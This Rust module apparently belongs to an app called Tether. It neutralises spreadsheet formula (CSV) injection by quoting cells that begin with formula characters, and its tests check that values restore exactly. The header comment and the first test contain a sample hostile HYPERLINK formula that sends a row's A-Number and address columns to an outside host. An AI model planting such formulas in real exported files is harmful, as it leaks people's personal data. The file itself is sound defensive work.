//! Spreadsheet formula injection (CSV injection): a cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return is run as a formula by Excel, LibreOffice and Sheets when the
//! file is opened, e.g. a given name `=HYPERLINK("https://…?x="&Q2&R2,"Open")` that sends the
//! A-Number and address columns of its row to a stranger on one click. Every CSV Tether writes
//! passes each cell through [`neutralise`] (OWASP: prefix such a cell with a single quote, so
//! the spreadsheet shows it as text); the import reads cells through [`restore`], so a file
//! Tether wrote reads back to the same values.
//!
//! One rule for every column, phones included: `+50251234567` is a formula to a spreadsheet
//! too (it becomes the number 50251234567, then `5.03E+10`), so `'+50251234567` is also the
//! form that keeps the number exact and readable; without the `+` it would be a different,
//! ambiguous number. A per-column exception is how an injection would slip back in.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` must be written with a leading quote: it starts like a formula, or it is
/// itself a quote followed by something that must be (so `'=x` is written `''=x` and reads back
/// as `'=x`: [`restore`] ∘ [`neutralise`] is the identity on every string).
fn needs_quote(cell: &str) -> bool {
    match cell.strip_prefix('\'') {
        Some(rest) => needs_quote(rest),
        None => cell.starts_with(FORMULA_STARTS),
    }
}

/// The cell as it may be written to a CSV file: with a leading `'` when a spreadsheet would
/// otherwise run it as a formula, unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The value of a cell [`neutralise`] may have written: one leading `'` is dropped when what
/// follows needed it. `'Ochoa` (no formula after the quote) is kept as it is.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote_and_read_back() {
        let hostile = r#"=HYPERLINK("https://x?x="&Q2&R2,"Open")"#;
        for (cell, written) in [
            (hostile, format!("'{hostile}")),
            ("+50251234567", "'+50251234567".into()),
            ("-2+3", "'-2+3".into()),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)".into()),
            ("\t=1+1", "'\t=1+1".into()),
            ("\r=1+1", "'\r=1+1".into()),
            ("'=1+1", "''=1+1".into()),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(restore(&neutralise(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn ordinary_cells_are_untouched() {
        for cell in [
            "José",
            "'Ochoa",
            "Ramírez-López",
            "2026-10-01",
            "",
            "A123456789",
            " =x",
        ] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }

    #[test]
    fn round_trip_on_awkward_strings() {
        for cell in ["'", "''", "'''=", "'-", "=", "'+'", "a'=b", "''+1"] {
            assert_eq!(restore(&neutralise(cell)), cell, "{cell:?}");
        }
    }
}
